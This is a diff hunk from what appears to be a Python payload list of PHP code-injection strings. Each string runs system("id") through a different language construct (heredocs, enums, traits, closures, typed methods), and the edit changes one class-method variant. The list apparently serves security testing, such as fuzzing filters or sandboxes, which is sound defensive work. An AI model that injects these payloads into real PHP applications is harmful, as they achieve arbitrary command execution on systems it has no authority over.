@@ -33,7 +33,7 @@ CODE = (
     b'declare(ticks=1){system("id");}', b'=system(command:"id")?>', b'=system("id",)?>', b'=(string)system("id")?>',
     b'=b"system"("id")?>', b"=b'system'('id')?>", b"=<<<A\nsystem\nA?>", b'=(<<<A\nsystem\nA)("id")?>',
     b"=system(<<<A\nid\nA);",
-    b'abstract class A{public static ?int $a=1;public function b(?int $x,int|string ...$y):?int{system("id");}}A::b(1);',
+    b'abstract class A{public static ?int $a=1;function b(?int $x,int|string ...$y):?int{system("id");}}A::b(1);',
     b'final class A extends B implements C{use D;const E=1;}system("id")?>',
     b'enum A:string{case B="x";}system("id")?>', b'interface A{function b();}system("id")?>',
     b'trait A{}system("id")?>', b'$f=function()use(&$a):int{return system("id");};$f()?>',
